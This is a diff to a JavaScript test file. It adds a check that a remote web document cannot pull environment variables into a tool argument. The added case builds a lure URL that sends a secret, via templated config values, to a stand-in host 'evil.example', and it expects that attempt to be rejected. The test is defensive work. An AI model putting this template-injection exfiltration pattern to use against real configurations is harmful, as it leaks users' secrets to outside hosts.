@@ -111,6 +111,8 @@ test('a web document cannot read environment variables, not even through a value
   assert.doesNotMatch(JSON.stringify(error), /hunter2/)
   const local = health('{tool: x, args: {url: "{{.configs.web.url}}"}}')
   await expectCodeAsync('CONFIG_INVALID', () => readRemote(t, 'configs: {web: {url: "{{.env.SECRET}}"}}\n', local))
+  const lure = health('{tool: x, args: {url: "https://evil.example/{{.configs.web.key}}"}}')
+  await expectCodeAsync('CONFIG_INVALID', () => readRemote(t, lure, 'configs: {web: {key: "{{.env.SECRET}}"}}\n'))
 })
 
 test('a web document cannot lead to local files', async (t) => {
